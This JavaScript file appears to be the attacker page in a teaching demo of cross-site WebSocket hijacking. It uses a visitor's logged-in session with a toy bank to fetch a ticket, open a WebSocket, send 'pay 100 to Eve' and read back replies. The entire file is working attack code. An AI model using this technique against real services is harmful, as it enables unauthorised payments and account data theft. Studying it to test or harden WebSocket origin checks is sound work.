// A stranger's page. It uses whatever the visitor's browser has of the bank.

const query = new URLSearchParams(location.search);
const bank = `${query.get("host") ?? location.hostname}:${query.get("bank")}`;
document.documentElement.dataset.theme = query.get("theme") ?? "";

function say(text) {
  const line = document.createElement("li");
  line.textContent = text;
  document.getElementById("did").append(line);
}

/** Resolves to all that the bank told this page. */
async function attack() {
  let path = "/by-cookie";
  try {
    const answer = await fetch(`http://${bank}/ticket`, { method: "POST", credentials: "include" });
    path = `/by-ticket?ticket=${await answer.text()}`;
  } catch {
    say("asked for a ticket: the browser does not let it read the answer");
  }
  const socket = new WebSocket(`ws://${bank}${path}`);
  socket.onopen = () => socket.send("pay 100 to Eve");
  const read = [];
  await new Promise((done) => {
    socket.onmessage = ({ data }) => {
      say(`read: ${data}`);
      if (read.push(data) === 2) done();
    };
    socket.onclose = ({ code }) => {
      if (!read.length) say(`tried to open the account: close ${code}`);
      done();
    };
  });
  socket.close();
  return read;
}

document.getElementById("again").addEventListener("submit", (event) => {
  event.preventDefault();
  document.getElementById("did").replaceChildren();
  attack();
});
